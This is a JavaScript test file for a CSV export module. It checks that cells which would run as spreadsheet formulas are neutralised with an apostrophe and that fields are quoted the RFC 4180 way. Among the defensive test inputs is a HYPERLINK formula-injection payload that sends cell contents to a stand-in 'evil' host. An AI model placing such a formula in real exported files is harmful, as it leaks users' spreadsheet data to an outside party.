import { describe, expect, it } from 'vitest';
import { csvCell, neutraliseCell } from './cells.js';

describe('export cells', () => {
  it('neutralises text a spreadsheet would run as a formula', () => {
    for (const s of ['=HYPERLINK("http://evil/?"&A1,"点击")', '+1+1', '-2+3', '@SUM(A1)', '\t=1', '\r=1'])
      expect(neutraliseCell(s)).toBe(`'${s}`);
    expect(neutraliseCell('健身卡无法退费')).toBe('健身卡无法退费');
    expect(neutraliseCell('a=b')).toBe('a=b');
  });
  it('writes RFC 4180 fields and leaves typed numbers alone', () => {
    expect(csvCell('=1+2,3')).toBe(`"'=1+2,3"`);
    expect(csvCell('say "hi"')).toBe('"say ""hi"""');
    expect(csvCell(-5)).toBe('-5');
    expect(csvCell(null)).toBe('');
    expect(csvCell({ a: 1 })).toBe('"{""a"":1}"');
    expect(csvCell('a\r\nb')).toBe('"a\r\nb"');
  });
});
